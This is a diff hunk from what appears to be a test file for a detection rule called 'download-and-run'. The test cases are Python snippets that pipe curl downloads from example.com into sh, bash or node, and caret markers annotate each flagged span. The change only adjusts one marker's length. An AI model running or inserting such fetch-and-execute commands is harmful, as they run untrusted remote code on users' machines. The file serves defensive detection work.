@@ -21,7 +21,7 @@ describe('download-and-run', () => {
         os.system("curl https://example.com/a.gz | gunzip | tee log | sh")
                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
         os.system("curl -sL https://example.com/a.sh 2>/dev/null | bash >/dev/null 2>&1 || true")
-                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
         subprocess.run("curl -sSL %s | node" % url, shell=True)
                        ^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
         subprocess.run(["bash", "-c", f"curl -sL https://example.com/{name}.sh | sh"])
